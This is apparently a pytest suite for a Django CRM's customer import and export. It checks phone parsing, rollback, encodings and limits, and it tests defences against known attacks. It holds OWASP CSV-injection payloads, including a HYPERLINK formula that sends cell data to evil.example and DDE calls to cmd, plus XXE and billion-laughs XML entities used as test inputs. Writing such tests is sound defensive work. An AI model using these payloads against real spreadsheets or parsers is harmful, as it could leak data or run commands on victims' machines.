"""CSV/XLSX import and export of customers (crm/tables.py, crm/imports.py, crm/exports.py)."""

import datetime as dt
import io
import zipfile

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from crm.exports import iter_rows, neutralise, write_csv, write_xlsx
from crm.imports import format_phones, parse_phones, run_import
from crm.models import Customer, CustomerPhone, Interaction
from crm.tables import ImportFileError, open_table
from tests.factories import CustomerPhoneFactory, InteractionFactory
from tests.servers import ROOT

pytestmark = pytest.mark.django_db

SAMPLE = ROOT / "fixtures" / "customers-sample.csv"
HEADER = "customer_id,first_name,last_name,tier,last_interaction_date,notes,phones"
PHONE_HINT = "Use e.g. mobile:+15551234567; work:(555) 987-6543."

# OWASP "CSV Injection" payloads, and the cells spreadsheets treat as formulas.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '=1+2";=1+2',
    "\t=1+1",
    "\r=1+1",
]


def write(tmp_path, content: bytes | str, name: str = "f.csv") -> str:
    path = tmp_path / name
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return str(path)


def csv_file(tmp_path, *lines: str) -> str:
    return write(tmp_path, "\n".join([HEADER, *lines]) + "\n")


def preview(path: str):
    return run_import(open_table(path), apply=False)


def apply(path: str):
    return run_import(open_table(path), apply=True)


def snapshot() -> list:
    """Every customer and phone, to compare before and after an import."""
    customers = list(
        Customer.objects.order_by("pk").values_list(
            "customer_id", "first_name", "tier__name", "notes", "last_interaction_date"
        )
    )
    phones = list(CustomerPhone.objects.order_by("pk").values_list("customer__customer_id", "number", "label"))
    return [customers, phones]


def phones_of(customer_id: str) -> list[tuple[str, str]]:
    return [
        (str(n), label)
        for n, label in CustomerPhone.objects.filter(customer__customer_id=customer_id)
        .order_by("number")
        .values_list("number", "label")
    ]


# -- phones cell -----------------------------------------------------------------------


def test_parse_phones_accepts_labels_and_any_format():
    assert parse_phones("mobile:+15551234567; work:(555) 987-6543;  555.010.0199 ; home:tel:+15550100100") == [
        ("+15551234567", "mobile"),
        ("+15559876543", "work"),
        ("+15550100199", "mobile"),
        ("+15550100100", "home"),
    ]
    assert parse_phones("") == [] and parse_phones(None) == []


def test_parse_phones_names_every_bad_entry():
    with pytest.raises(ValueError) as error:
        parse_phones("12345; work:+15551234567; home:abc")
    assert str(error.value) == (
        f"'12345' is not a possible phone number; 'abc' is not a possible phone number. {PHONE_HINT}"
    )


def test_format_phones():
    assert format_phones([("+15551234567", "mobile"), ("+15559876543", "work")]) == (
        "mobile:+15551234567; work:+15559876543"
    )


# -- export ------------------------------------------------------------------------------


def test_export_csv_one_row_per_customer_with_bom(alice, bob, tmp_path):
    CustomerPhoneFactory(customer=alice, number="+15550100199", label="work")
    path = tmp_path / "out.csv"
    assert write_csv(str(path), iter_rows()) == 2
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert path.read_text(encoding="utf-8-sig").replace("\r\n", "\n") == (
        f"{HEADER}\n"
        "CUST-001,Alice,Smith,Gold,2023-10-15,,mobile:+15551234567; work:+15550100199\n"
        "CUST-002,Bob,Jones,Silver,2023-11-01,,mobile:+15559876543\n"
    )


def test_export_runs_two_queries_per_chunk(alice, bob, django_assert_num_queries):
    with django_assert_num_queries(3):  # the customers with their tier's name, their phones, the empty next chunk
        assert len(list(iter_rows())) == 2


def test_export_in_chunks_neutralises_only_the_cells_that_need_it(alice, bob, tmp_path, monkeypatch):
    monkeypatch.setattr("crm.exports.CHUNK", 1)  # one row per query and per batch the writer checks
    Customer.objects.create(customer_id="CUST-003", first_name="Cy", last_name="-Dash", tier=alice.tier, notes="=1+1")
    CustomerPhoneFactory(customer=alice, number="+15550100199", label="work")
    path = tmp_path / "out.csv"
    assert write_csv(str(path), iter_rows()) == 3
    assert path.read_text(encoding="utf-8-sig").replace("\r\n", "\n") == (
        f"{HEADER}\n"
        "CUST-001,Alice,Smith,Gold,2023-10-15,,mobile:+15551234567; work:+15550100199\n"
        "CUST-002,Bob,Jones,Silver,2023-11-01,,mobile:+15559876543\n"
        "CUST-003,Cy,'-Dash,Gold,,'=1+1,\n"
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_formula_cells(payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise("Alice") == "Alice"


def test_csv_export_neutralises_every_owasp_payload_and_import_restores_them(alice, tmp_path):
    for n, payload in enumerate(PAYLOADS):
        Customer.objects.create(customer_id=f"CUST-9{n:02d}", first_name=payload, last_name="X", tier=alice.tier)
    path = tmp_path / "out.csv"
    write_csv(str(path), iter_rows())
    import csv

    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    first_names = [row[1] for row in rows[2:]]
    assert first_names == ["'" + p for p in PAYLOADS]
    # The apostrophe is ours: importing the export changes nothing.
    outcome = apply(str(path))
    assert outcome.error_count == 0 and outcome.totals == {"new": 0, "update": 0, "skip": 9, "invalid": 0}


def test_xlsx_export_writes_formula_payloads_as_text(alice, tmp_path):
    for n, payload in enumerate(PAYLOADS):
        Customer.objects.create(customer_id=f"CUST-9{n:02d}", first_name=payload, last_name="=X", tier=alice.tier)
    path = tmp_path / "out.xlsx"
    assert write_xlsx(str(path), iter_rows()) == 9
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cells = load_workbook(path).active
    values = [(cells.cell(row=r, column=2).value, cells.cell(row=r, column=2).data_type) for r in range(3, 11)]
    assert all(data_type == "s" for _, data_type in values)
    assert [v for v, _ in values][:7] == PAYLOADS[:7]
    outcome = apply(str(path))
    # Cells are trimmed on import, so the two led by a tab or CR come back without it.
    assert outcome.error_count == 0 and outcome.totals["skip"] == 7


def assert_import_changes_nothing(path, *, skipped: int) -> None:
    """Importing this file reports every row as skipped and leaves every customer and phone as it was."""
    before = snapshot()
    outcome = apply(str(path))
    assert outcome.totals == {"new": 0, "update": 0, "skip": skipped, "invalid": 0}
    assert snapshot() == before


def test_xlsx_round_trip_changes_nothing(alice, bob, tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx(str(path), iter_rows())
    assert_import_changes_nothing(path, skipped=2)


# -- import: rules --------------------------------------------------------------------


def test_sample_file_imports_cleanly_then_reimport_changes_nothing():
    call_command("loaddata", "demo", verbosity=0)
    outcome = apply(str(SAMPLE))
    assert outcome.error_count == 0 and outcome.totals == {"new": 5, "update": 0, "skip": 0, "invalid": 0}
    assert phones_of("CUST-105") == [("+15550100106", "work"), ("+15550100107", "mobile")]
    assert_import_changes_nothing(SAMPLE, skipped=5)


def test_preview_shows_phones_of_new_rows():
    call_command("loaddata", "demo", verbosity=0)
    outcome = preview(str(SAMPLE))
    assert outcome.changes[0] == {
        "row": 2,
        "customer_id": "CUST-101",
        "action": "new",
        "fields": [
            ["first_name", "", "Carol"],
            ["last_name", "", "Diaz"],
            ["tier", "", "Gold"],
            ["last_interaction_date", "", "2024-02-03"],
            ["notes", "", "Prefers email follow-up"],
        ],
        "phones": ["", "mobile:+15550100101; work:+15550100102"],
    }
    assert Customer.objects.count() == 2  # the preview wrote nothing


def test_empty_phones_cell_keeps_every_phone(tmp_path):
    """Finding 2: the last cell empty must not delete Carol's two numbers."""
    call_command("loaddata", "demo", verbosity=0)
    apply(str(SAMPLE))
    path = csv_file(tmp_path, "CUST-101,Carol,Diaz,Gold,2024-02-03,Prefers email follow-up,")
    shown = preview(path)
    assert shown.totals == {"new": 0, "update": 0, "skip": 1, "invalid": 0} and shown.changes == []
    assert apply(path).error_count == 0
    assert phones_of("CUST-101") == [("+15550100101", "mobile"), ("+15550100102", "work")]


def alice_update(fields: list, phones: list) -> dict:
    """The preview's entry for a one-row file that updates Alice: fields and phones as before -> after."""
    return {"row": 2, "customer_id": "CUST-001", "action": "update", "fields": fields, "phones": phones}


def test_empty_cells_change_nothing_and_none_clears(alice, tmp_path):
    alice.notes = "VIP"
    alice.save()
    path = csv_file(tmp_path, "CUST-001,,,,,,")
    assert preview(path).totals["skip"] == 1
    path = csv_file(tmp_path, "CUST-001,,,,none,NONE,none")
    fields = [["last_interaction_date", "2023-10-15", ""], ["notes", "VIP", ""]]
    assert preview(path).changes == [alice_update(fields, phones=["mobile:+15551234567", ""])]
    assert apply(path).error_count == 0
    alice.refresh_from_db()
    assert (alice.notes, alice.last_interaction_date, phones_of("CUST-001")) == ("", None, [])


def test_phones_cell_lists_all_phones_and_preview_shows_before_and_after(alice, bob, tmp_path):
    path = csv_file(tmp_path, "CUST-001,Alice,Smith,Silver,2023-10-15,VIP,work:+15551234567; home:+15550100401")
    fields = [["tier", "Gold", "Silver"], ["notes", "", "VIP"]]
    phones = ["mobile:+15551234567", "work:+15551234567; home:+15550100401"]
    assert preview(path).changes == [alice_update(fields, phones=phones)]
    assert apply(path).totals["update"] == 1
    assert phones_of("CUST-001") == [("+15550100401", "home"), ("+15551234567", "work")]
    apply(csv_file(tmp_path, "CUST-001,Alice,Smith,Silver,2023-10-15,VIP,+15550100401"))
    assert phones_of("CUST-001") == [("+15550100401", "mobile")]


def test_preview_lists_every_row_error_and_writes_nothing(alice, tmp_path):
    before = snapshot()
    path = csv_file(
        tmp_path,
        "CUST-201,Ann,Bad,Gold,,,12345",
        "CUST-202,Ben,Tier,Platinum,,,+15550100201",
        "CUST-203,Cat,Dup,Gold,,,+15550100202",
        "CUST-204,Dov,Dup,Gold,,,(555) 010-0202",
        "CUST-205,Eve,Taken,Gold,,,555-123-4567",
        ",Fay,NoId,Gold,,,+15550100203",
        "CUST-206,Gus,Twice,Gold,,,+15550100204; work:+15550100204",
        "CUST X9 <b>,Hal,Odd,Gold,,,",
        "cust-203,Ida,Again,Gold,,,",
        "CUST-207,Jo,Date,Gold,03/02/2024,,",
        "CUST-208,,NoFirst,Gold,,,",
        "CUST-209,Kim,Fine,Gold,,,+15550100205",
    )
    outcome = preview(path)
    assert [(e["row"], e["column"], e["message"]) for e in outcome.errors] == [
        (2, "phones", f"'12345' is not a possible phone number. {PHONE_HINT}"),
        (3, "tier", "Unknown tier 'Platinum'; tiers are: Gold."),
        (5, "phones", "+15550100202 is also in row 4 of this file."),
        (6, "phones", "+15551234567 already belongs to customer CUST-001."),
        (7, "customer_id", "Missing customer ID."),
        (8, "phones", "+15550100204 is listed twice in this row."),
        (
            9,
            "customer_id",
            "'CUST X9 <B>' is not a valid customer ID: 1-32 letters, digits, '.', '_' or '-', starting with a "
            "letter or digit, e.g. CUST-001. Stored upper-case; spaces around it are removed.",
        ),
        (10, "customer_id", "CUST-203 is also in row 4 of this file."),
        (11, "last_interaction_date", "'03/02/2024' is not a date; use YYYY-MM-DD, e.g. 2024-02-03."),
        (12, "first_name", "Missing first name (required for a new customer)."),
    ]
    assert outcome.totals == {"new": 2, "update": 0, "skip": 0, "invalid": 10}
    assert snapshot() == before


def test_one_bad_row_rolls_back_the_whole_import(alice, tmp_path):
    before = snapshot()
    path = csv_file(
        tmp_path,
        "CUST-301,Ivy,Good,Gold,,,+15550100301",
        "CUST-001,Alice,Smith,Gold,2023-10-15,changed,mobile:+15551234567",
        "CUST-302,Jon,Bad,Gold,,,not a number",
    )
    outcome = apply(path)
    assert [(e["row"], e["column"]) for e in outcome.errors] == [(4, "phones")]
    assert snapshot() == before


def test_rollback_spans_batches(alice, tmp_path, monkeypatch):
    monkeypatch.setattr("crm.imports.BATCH_SIZE", 2)
    before = snapshot()
    lines = [f"CUST-4{n:02d},N{n},L,Gold,,,+1555020{n:04d}" for n in range(7)] + ["CUST-499,Bad,L,Nope,,,"]
    outcome = apply(csv_file(tmp_path, *lines))
    assert outcome.error_count == 1 and outcome.totals["new"] == 7
    assert snapshot() == before


def test_customer_ids_are_trimmed_and_upper_cased(alice, tmp_path):
    apply(csv_file(tmp_path, " cust-501 ,Lea,Low,Gold,,,", "cust-001,Alicia,,,,,"))
    assert list(Customer.objects.order_by("customer_id").values_list("customer_id", "first_name")) == [
        ("CUST-001", "Alicia"),
        ("CUST-501", "Lea"),
    ]


def test_import_records_one_history_entry_per_customer(alice, tmp_path, admin_user):
    path = csv_file(
        tmp_path, "CUST-001,Alicia,,Gold,,,work:+15551234567; home:+15550100601", "CUST-602,New,Person,Gold,,,"
    )
    run_import(open_table(path), apply=True, user=admin_user, reason="Import job #7 (f.csv)")
    records = list(Customer.history.filter(history_change_reason="Import job #7 (f.csv)").order_by("customer_id"))
    assert [(r.customer_id, r.history_type, r.first_name, r.history_user) for r in records] == [
        ("CUST-001", "~", "Alicia", admin_user),
        ("CUST-602", "+", "New", admin_user),
    ]
    phone_records = CustomerPhone.history.filter(history_change_reason="Import job #7 (f.csv)")
    assert sorted((str(r.number), r.label, r.history_type) for r in phone_records) == [
        ("+15550100601", "home", "+"),
        ("+15551234567", "work", "~"),
    ]


def test_import_gives_a_new_phone_its_unknown_calls(alice, tmp_path):
    now = timezone.now()
    InteractionFactory(ani="+15550100601", occurred_at=now - dt.timedelta(days=1))
    InteractionFactory(ani="+15550100602", occurred_at=now)
    apply(csv_file(tmp_path, "CUST-001,,,Gold,,,+15551234567; +15550100601", "CUST-602,New,Person,Gold,,,+15550100602"))
    claimed = Interaction.objects.order_by("ani").values_list("ani", "customer__customer_id")
    assert list(claimed) == [("+15550100601", "CUST-001"), ("+15550100602", "CUST-602")]
    dates = Customer.objects.order_by("customer_id").values_list("customer_id", "last_interaction_date")
    assert list(dates) == [
        ("CUST-001", timezone.localdate(now - dt.timedelta(days=1))),
        ("CUST-602", timezone.localdate(now)),
    ]


def test_import_of_a_long_file_name_keeps_the_history_reason_to_its_column(alice, tmp_path):
    # A job's reason names the file (up to 255 characters); the column holds 100 (PostgreSQL refuses more).
    reason = f"Import job #8 ({'x' * 251}.csv)"
    outcome = run_import(
        open_table(csv_file(tmp_path, "CUST-603,New,Person,Gold,,,+15550100603")), apply=True, reason=reason
    )
    assert outcome.totals["new"] == 1
    assert [r.history_change_reason for r in Customer.history.filter(customer_id="CUST-603")] == [reason[:100]]
    assert [r.history_change_reason for r in CustomerPhone.history.filter(number="+15550100603")] == [reason[:100]]


# -- import: files -------------------------------------------------------------------


ROW = "CUST-701,Zoë,Müller,Gold,2024-01-02,Café,+15550100701"


@pytest.mark.parametrize(
    ("encoding", "delimiter", "kind"),
    [
        ("utf-8", ",", "CSV (UTF-8, ','-separated)"),
        ("utf-8-sig", ",", "CSV (UTF-8 WITH BOM, ','-separated)"),
        ("utf-16", "\t", "CSV (UTF-16, tab-separated)"),
        ("cp1252", ";", "CSV (CP1252, ';'-separated)"),
        ("latin-1", ";", "CSV (CP1252, ';'-separated)"),
    ],
)
def test_encodings_and_delimiters_are_detected(alice, tmp_path, encoding, delimiter, kind):
    text = f"{HEADER}\r\n{ROW}\r\n".replace(",", delimiter)
    table = open_table(write(tmp_path, text.encode(encoding)))
    assert table.kind == kind
    outcome = run_import(table, apply=True)
    assert outcome.error_count == 0, outcome.errors
    customer = Customer.objects.get(customer_id="CUST-701")
    assert (customer.first_name, customer.last_name, customer.notes) == ("Zoë", "Müller", "Café")


def test_header_columns_in_any_order_and_case(alice, tmp_path):
    path = write(tmp_path, "Phones;Customer ID;Tier;First Name;Last Name\n+15550100801;cust-801;gold;Ann;Lee\n")
    assert apply(path).error_count == 0
    assert phones_of("CUST-801") == [("+15550100801", "mobile")]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            "id,name,phone\n1,Ann,+15550100901\n",
            "The header row does not match (missing: customer_id, first_name, last_name, tier; unknown: id, name, "
            "phone). Expected the columns customer_id, first_name, last_name, tier, and optionally "
            "last_interaction_date, notes, phones (in any order). Found: id, name, phone.",
        ),
        (
            "customer_id,first_name,last_name,tier,tier\n",
            "The header row does not match (listed twice: tier). Expected the columns customer_id, first_name, "
            "last_name, tier, and optionally last_interaction_date, notes, phones (in any order). "
            "Found: customer_id, first_name, last_name, tier, tier.",
        ),
        ("", "The file is empty."),
        (
            "\n",
            "The header row does not match (missing: customer_id, first_name, last_name, tier). Expected the "
            "columns customer_id, first_name, last_name, tier, and optionally last_interaction_date, notes, phones "
            "(in any order). Found: (nothing).",
        ),
        (b"%PDF-1.4\n%\xe2\xe3", "This file is not a CSV or XLSX spreadsheet: it looks like a PDF document."),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "This file is not a CSV or XLSX spreadsheet: it looks like a PNG image."),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            "This file is not a CSV or XLSX spreadsheet: it looks like an old Excel .xls (or Word .doc) file: "
            "save it as .xlsx or CSV and upload that.",
        ),
        (bytes(range(256)) * 4, "This file is not a CSV or XLSX spreadsheet: it contains binary data."),
        (b"PK\x03\x04broken zip", "This file is not a readable XLSX workbook (or a CSV): save it from Excel again."),
        (
            f"{HEADER}\nCUST-1,A,B,Gold,,,,extra\n",
            "Row 2 has 8 cells but the header has 7 columns. Check for a separator inside an unquoted cell.",
        ),
    ],
)
def test_file_problems_have_clear_messages(db, tmp_path, content, message):
    with pytest.raises(ImportFileError) as error:
        table = open_table(write(tmp_path, content))
        list(table.rows)
    assert str(error.value) == message


def xlsx_with_doctype(tmp_path, doctype: str, sheet_name: str) -> str:
    """A workbook whose workbook.xml declares entities and names its sheet with one."""
    plain, path = io.BytesIO(), tmp_path / "entities.xlsx"
    Workbook().save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/workbook.xml":
                text = data.decode()
                text = text[text.index("<workbook") :].replace('name="Sheet"', f'name="{sheet_name}"')
                data = f'<?xml version="1.0"?>{doctype}{text}'.encode()
            target.writestr(name, data)
    return str(path)


LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(8))


@pytest.mark.parametrize(
    ("doctype", "sheet_name"),
    [
        ('<!DOCTYPE workbook [<!ENTITY e SYSTEM "file:///etc/hostname">]>', "&e;"),  # XXE
        (f'<!DOCTYPE workbook [<!ENTITY l0 "aaaaaaaaaa">{LAUGHS}]>', "&l8;"),  # billion laughs
    ],
)
def test_xlsx_with_entities_is_refused_with_a_clear_message(db, tmp_path, doctype, sheet_name):
    with pytest.raises(ImportFileError) as error:
        open_table(xlsx_with_doctype(tmp_path, doctype, sheet_name))
    assert str(error.value) == "This file is not a readable XLSX workbook (or a CSV): save it from Excel again."


def test_oversize_cell_is_refused_with_the_limit(db, tmp_path, settings):
    settings.CRM_IMPORT_MAX_CELL_CHARS = 100
    path = csv_file(tmp_path, "CUST-1,A,B,Gold,,short,", f"CUST-2,A,B,Gold,,{'x' * 5000},")
    with pytest.raises(ImportFileError) as error:
        list(open_table(path).rows)
    assert str(error.value) == "Row 3: a cell is longer than the limit of 100 characters."


def test_oversize_file_is_refused_with_the_limit(db, tmp_path, settings):
    settings.CRM_IMPORT_MAX_FILE_MB = 1
    path = write(tmp_path, HEADER + "\n" + "x" * (1024 * 1024 + 10))
    with pytest.raises(ImportFileError) as error:
        open_table(path)
    assert str(error.value) == "The file is 1.0 MB; the limit is 1 MB. Split it into smaller files."


def test_xlsx_import_reads_dates_and_numbers(alice, tmp_path):
    import datetime

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["customer_id", "first_name", "last_name", "tier", "last_interaction_date", "phones"])
    sheet.append(["cust-950", "Ann", "Lee", "Gold", datetime.datetime(2024, 2, 3), 15550100950])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert apply(write(tmp_path, buffer.getvalue(), "f.xlsx")).error_count == 0
    customer = Customer.objects.get(customer_id="CUST-950")
    assert str(customer.last_interaction_date) == "2024-02-03"
    assert phones_of("CUST-950") == [("+15550100950", "mobile")]
